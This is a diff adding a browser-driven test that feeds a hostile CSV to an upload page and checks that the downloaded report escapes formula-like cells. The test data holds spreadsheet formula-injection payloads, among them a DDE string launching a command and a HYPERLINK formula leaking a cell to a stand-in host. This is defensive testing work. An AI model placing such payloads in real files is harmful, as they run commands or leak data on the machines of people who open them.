@@ -3,6 +3,7 @@ import { afterAll, beforeAll, describe, expect, it } from 'vitest';
 import { readFileSync, readdirSync } from 'node:fs';
 import { join, relative } from 'node:path';
 import type { Browser, Page } from 'playwright-core';
+import Papa from 'papaparse';
 import { connectBrowser, downloadBytes, openPage, runAxe, waitReady } from './harness';
 import { cp1251 } from '../fixtures/encodings';
 import { BUILD_DIR } from './global-setup';
@@ -151,6 +152,27 @@ describe('/upload/', () => {
 		await drop(page, [{ name: 'empty.csv', buffer: Buffer.alloc(0) }]);
 		expect(await page.locator('[data-testid="file-error"]').innerText()).toMatch(/empty\.csv.*empty/i);
 		expect(await summary(page)).toEqual([0, 0, 0]);
+		await page.close();
+	});
+
+	it('writes a check report in which no value of a hostile export runs as a formula in a spreadsheet', async () => {
+		const hostile = [
+			'case_id,year,sex,nationality,programme',
+			...Array.from({ length: 12 }, (_, i) => `H${i},2024,F,KG,Shelter`),
+			'H20,2024,@SUM(1+1)*cmd|\' /C calc\'!A0,"=HYPERLINK(""http://example.invalid/?leak=""&A1,""click"")",Shelter',
+			'H21,2024,+1+1,-2+3+cmd,Shelter',
+			'H22,=1+1,F,KG,Shelter'
+		].join('\n');
+		const { page } = await openPage(browser, '/upload/');
+		await waitReady(page);
+		await drop(page, [{ name: 'hostile.csv', buffer: Buffer.from(hostile) }]);
+		const [report] = await Promise.all([page.waitForEvent('download'), page.getByRole('button', { name: /check report/i }).click()]);
+		const bytes = await downloadBytes(report);
+		const cells = Papa.parse<string[]>(bytes.toString('utf8').replace(/^\uFEFF/, '')).data.flat();
+		// The hostile values are in the report (nothing lost), as text a spreadsheet shows.
+		expect(cells.some((c) => c.includes('=HYPERLINK(') && c.includes('@SUM(1+1)') === false)).toBe(true);
+		expect(cells.filter((c) => /^'[=+@-]/.test(c)).length).toBeGreaterThanOrEqual(3);
+		for (const cell of cells) expect(/^[=+@\t\r]/.test(cell) || (/^-/.test(cell) && !/^-?\d+(\.\d+)?$/.test(cell))).toBe(false);
 		await page.close();
 	});
 
